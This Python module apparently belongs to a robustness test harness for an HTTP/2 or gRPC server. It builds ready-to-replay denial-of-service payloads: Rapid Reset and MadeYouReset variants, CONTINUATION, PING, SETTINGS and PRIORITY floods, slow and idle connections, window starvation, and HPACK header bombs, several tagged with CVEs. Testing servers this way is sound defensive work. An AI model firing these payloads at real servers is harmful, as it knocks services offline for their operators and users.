"""The attacks: what each says after the greeting, and whether it listens.

An attack is written down once and played on every connection it makes. It ends where the list ends; then the last part is
said again and again.
"""

from collections.abc import Callable
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from wire import greeting, message, opening

# How many streams a script opens; h2 or the frame should have had enough long before.
STREAMS = 4000
# A part that is said again and again is made this long, so that saying it is cheap for the attacker.
CHUNK = 64 * 1024


@dataclass
class Attack:
    """Bytes to say once, bytes to repeat (none: wait), connections at a time, whether answers are read, and the seconds
    between two bytes of one that is in no hurry."""

    once: bytes
    again: bytes = b""
    connections: int = 4
    reads: bool = True
    pause: float = 0.0


def streams() -> range:
    return range(1, 2 * STREAMS, 2)


def repeated(frame: bytes) -> bytes:
    return frame * max(1, CHUNK // len(frame))


def rapid_reset() -> Attack:
    """Opens calls and takes them back at once (CVE-2023-44487)."""
    encoder = Encoder()
    parts = [opening(encoder, s, "Echo") + RstStreamFrame(s, error_code=8).serialize() for s in streams()]
    return Attack(greeting() + b"".join(parts))


def made_you_reset() -> Attack:
    """Opens calls and has the server take them back (CVE-2025-8671)."""
    encoder = Encoder()
    # More window than there can be, an error of the stream.
    too_much = [WindowUpdateFrame(s, window_increment=2**31 - 1).serialize() for s in streams()]
    wrong = [opening(encoder, s, "Slow") + more for s, more in zip(streams(), too_much)]
    return Attack(greeting() + b"".join(wrong))


def made_you_reset_by_priority() -> Attack:
    """The same by PRIORITY frames that are no such thing, an error of the stream by their length."""
    encoder = Encoder()
    # Type 2, no payload instead of five bytes.
    empty = [b"\0\0\0\2\0" + s.to_bytes(4, "big") for s in streams()]
    wrong = [opening(encoder, s, "Slow") + more for s, more in zip(streams(), empty)]
    return Attack(greeting() + b"".join(wrong))


def made_you_reset_by_data() -> Attack:
    """The same by DATA behind the end of the call."""
    encoder = Encoder()
    ends = ("END_HEADERS", "END_STREAM")
    wrong = [opening(encoder, s, "Slow", flags=ends) + DataFrame(s, b"x").serialize() for s in streams()]
    return Attack(greeting() + b"".join(wrong))


def continuation_flood() -> Attack:
    """A header list that never ends (CVE-2024-27316 and others)."""
    begin = opening(Encoder(), 1, "Echo", flags=())
    again = ContinuationFrame(1, b"\0\1x\1y").serialize()
    return Attack(greeting() + begin, repeated(again))


def empty_data_flood() -> Attack:
    """DATA without data (CVE-2019-9518)."""
    begin = opening(Encoder(), 1, "Converse")
    return Attack(greeting() + begin, repeated(DataFrame(1, b"").serialize()))


def ping_flood() -> Attack:
    """PINGs, each of which wants an answer (CVE-2019-9512)."""
    return Attack(greeting(), repeated(PingFrame(0, b"12345678").serialize()))


def settings_flood() -> Attack:
    """SETTINGS, each of which wants an answer (CVE-2019-9515)."""
    return Attack(greeting(), repeated(SettingsFrame(0, settings={4: 65535}).serialize()))


def window_flood() -> Attack:
    """WINDOW_UPDATEs for a window that nobody uses."""
    again = WindowUpdateFrame(0, window_increment=1).serialize()
    return Attack(greeting(), repeated(again))


def priority_flood() -> Attack:
    """PRIORITY of streams that do not exist (CVE-2019-9513)."""
    again = PriorityFrame(1, depends_on=3, stream_weight=7).serialize()
    return Attack(greeting(), repeated(again))


def silent_peers() -> Attack:
    """Connects, a thousand times, and says nothing."""
    return Attack(b"", connections=1000)


def dribblers() -> Attack:
    """Says its greeting a byte at a time, as slowly as it likes."""
    return Attack(greeting(), connections=200, pause=0.2)


def idlers() -> Attack:
    """Greets, and then makes no call and acknowledges nothing."""
    return Attack(greeting(), connections=400)


def deaf_peers() -> Attack:
    """Asks for long answers and reads none of them: the socket fills."""
    encoder = Encoder()
    text = b"\x0a" + varint(60_000) + b"x" * 60_000
    # More would not fit the window that every connection begins with, and be an error.
    calls = [opening(encoder, 1, "Echo") + message(1, text)]
    calls += [opening(encoder, s, "Count") + message(s, b"") for s in range(3, 12, 2)]
    return Attack(greeting(window=2**31 - 1) + b"".join(calls), connections=20, reads=False)


def windowless_peers() -> Attack:
    """Asks for long answers and leaves no window for them (CVE-2019-9511)."""
    return Attack(deaf_peers().once.replace(greeting(window=2**31 - 1), greeting(window=0)), connections=20)


def hoarders() -> Attack:
    """Announces messages of 4 MiB, sends their beginnings, and never their ends."""
    encoder = Encoder()
    # Together they fit the window that every connection begins with.
    begun = DataFrame(1, b"\0\0\x40\0\0" + bytes(400))
    parts = []
    for stream in range(1, 256, 2):
        begun.stream_id = stream
        parts.append(opening(encoder, stream, "Weigh") + begun.serialize())
    return Attack(greeting() + b"".join(parts), connections=40)


def header_bomb() -> Attack:
    """A long header, remembered, and then named thousands of times in a byte each (CVE-2016-6581)."""
    bombs = bomb(16_000)
    return Attack(greeting() + b"".join(bombs))


def header_ballast() -> Attack:
    """The same within what h2 takes for a mistake: too long, and answered so."""
    return Attack(greeting() + b"".join(bomb(6)))


def bomb(times: int) -> list[bytes]:
    encoder = Encoder()
    ballast = [("x-ballast", "x" * 3900)]
    return [opening(encoder, s, "Echo", ballast * (times if s > 1 else 1)) for s in range(1, 600, 2)]


def varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


ALL: dict[str, Callable[[], Attack]] = {
    make.__name__: make
    for make in (
        rapid_reset,
        made_you_reset,
        made_you_reset_by_priority,
        made_you_reset_by_data,
        continuation_flood,
        empty_data_flood,
        ping_flood,
        settings_flood,
        window_flood,
        priority_flood,
        silent_peers,
        dribblers,
        idlers,
        deaf_peers,
        windowless_peers,
        hoarders,
        header_bomb,
        header_ballast,
    )
}
